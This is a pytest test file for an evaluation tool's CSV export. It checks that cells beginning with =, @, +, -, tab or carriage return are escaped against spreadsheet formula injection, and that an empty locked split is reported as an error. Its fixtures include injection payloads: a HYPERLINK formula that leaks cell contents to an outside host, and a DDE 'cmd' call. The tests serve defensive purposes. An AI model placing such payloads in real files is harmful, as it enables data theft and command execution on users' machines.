"""Quieter issues: an empty locked split used to evaluate 0 items and exit 0; a
CSV export wrote cells beginning with =, @, +, -, a tab or a carriage return as they were (a
spreadsheet runs them as formulas: an output can be `=HYPERLINK("http://evil", "click")`). Both are
now handled by default; `--csv-formulas` writes the cells as they are."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from vx.evaluation import FORMULA_STARTS, csv_cell, write_rows

from .test_bad_input import assert_error, eval_locked, run

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("split", ["locked", "dev"])
def test_an_empty_split_is_an_error(fam: Path, split: str) -> None:  # noqa: F811
    (fam / f"{split}.jsonl").write_text("", encoding="utf-8")
    if split == "locked":
        res = eval_locked(fam)
        assert_error(res, "locked.jsonl", "locked split is empty", "nothing to evaluate")
        assert res.exit_code == 2
    else:  # an empty dev split is refused when the family loads (evolution needs both classes)
        assert_error(run("eval", fam / "seed.vx", "--family", fam, "-d", "dev", "-j", "1", "--no-cache"), "dev")


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(fam: Path, tmp_path: Path) -> None:  # noqa: F811
    rows = [json.loads(line) for line in (fam / "locked.jsonl").read_text(encoding="utf-8").splitlines()] * 2
    rows = [dict(r) for r in rows[: len(FORMULAS)]]
    for row, formula in zip(rows, FORMULAS):
        row["id"] = formula  # an item id is the family file's text (the rows carry ids, labels, op messages)
    (fam / "locked.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "rows.csv"
    res = eval_locked(fam, "-o", out)
    assert res.exit_code == 0, res.output
    cells = [cell for row in csv.reader(out.open(encoding="utf-8", newline="")) for cell in row]
    assert sum(cell.lstrip("'") in FORMULAS for cell in cells) == len(FORMULAS)  # every id is written...
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)  # ...and none as a formula
    raw = tmp_path / "raw.csv"
    assert eval_locked(fam, "-o", raw, "--csv-formulas").exit_code == 0
    raw_cells = [cell for row in csv.reader(raw.open(encoding="utf-8", newline="")) for cell in row]
    assert any(cell.startswith(FORMULA_STARTS) for cell in raw_cells)  # the opt-out writes them as they are


def test_every_formula_start_is_escaped_and_jsonl_is_untouched(tmp_path: Path) -> None:
    rows = [{"id": str(i), "output": f} for i, f in enumerate(FORMULAS)]
    write_rows(rows, tmp_path / "r.csv")
    got = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8", newline="")))
    assert [g["output"] for g in got] == ["'" + f for f in FORMULAS]
    write_rows(rows, tmp_path / "r.jsonl")
    assert [json.loads(line)["output"] for line in (tmp_path / "r.jsonl").read_text().splitlines()] == FORMULAS
    assert csv_cell("plain") == "plain" and csv_cell(-3) == -3 and csv_cell("=1", escape_formulas=False) == "=1"
